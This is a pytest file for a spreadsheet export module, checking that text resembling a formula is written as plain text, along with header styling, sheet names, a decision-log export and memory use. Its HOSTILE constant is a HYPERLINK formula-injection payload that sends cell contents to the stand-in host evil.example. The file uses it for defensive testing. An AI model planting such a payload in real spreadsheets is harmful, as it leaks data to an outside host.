"""No text written to a spreadsheet comes back as a live formula (formula injection)."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx import add_sheet, append, streamed_workbook, workbook_bytes, workbook_file

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ROW = [HOSTILE, "+1", "-2+3", "@SUM(A1)", "Borgerportal", 40000]


def _normal() -> bytes:
    wb = Workbook()
    append(wb.active, ROW)
    return workbook_bytes(wb)


def _streamed() -> bytes:
    wb = streamed_workbook()
    append(add_sheet(wb, "Sheet", ["a"] * 6), ROW)
    with workbook_file(wb) as file:
        return file.read()


@pytest.mark.parametrize("write", [_normal, _streamed])
def test_text_that_looks_like_a_formula_is_written_as_plain_text(write):
    content = write()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [
        c.value for c in load_workbook(io.BytesIO(content)).active[1 if write is _normal else 2]
    ]
    assert cells == ROW


def test_a_streamed_sheet_has_a_bold_header_and_column_widths():
    wb = streamed_workbook()
    ws = add_sheet(
        wb,
        "A title longer than the thirty-one characters a sheet name may have",
        ["Id", "Initiative"],
        [4, 30],
    )
    append(ws, ["I-001", "Borgerportal"])
    with workbook_file(wb) as file:
        sheet = load_workbook(file).active
    assert sheet.title == "A title longer than the thirty-"
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet.column_dimensions["A"].width == 6 and sheet.column_dimensions["B"].width == 32


def test_the_decision_log_export_carries_no_formula(client, member, org):
    from governance.models import Body, Decision

    body = Body.objects.create(organisation=org, name="Direktion", kind="executive_board")
    Decision.objects.create(
        organisation=org,
        body=body,
        kind="follow_up",
        outcome="approve",
        title=HOSTILE,
        rationale="=1+1",
        decided_on="2026-12-01",
    )
    client.force_login(member)
    response = client.get("/skovby/decisions/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_a_streamed_workbook_holds_its_memory_flat_at_any_size():
    import tracemalloc

    def peak(rows: int) -> int:
        tracemalloc.start()
        wb = streamed_workbook()
        ws = add_sheet(wb, "Sheet", ["Id", "Value", "Text"])
        for n in range(rows):
            append(ws, [f"G-{n}", n * 1.5, "Færre opkald til borgerservice"])
        with workbook_file(wb):
            pass
        _now, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    # Ten times the rows, not ten times the memory (a workbook built in memory grows with it).
    assert peak(20_000) < 3 * peak(2_000) + 1_500_000
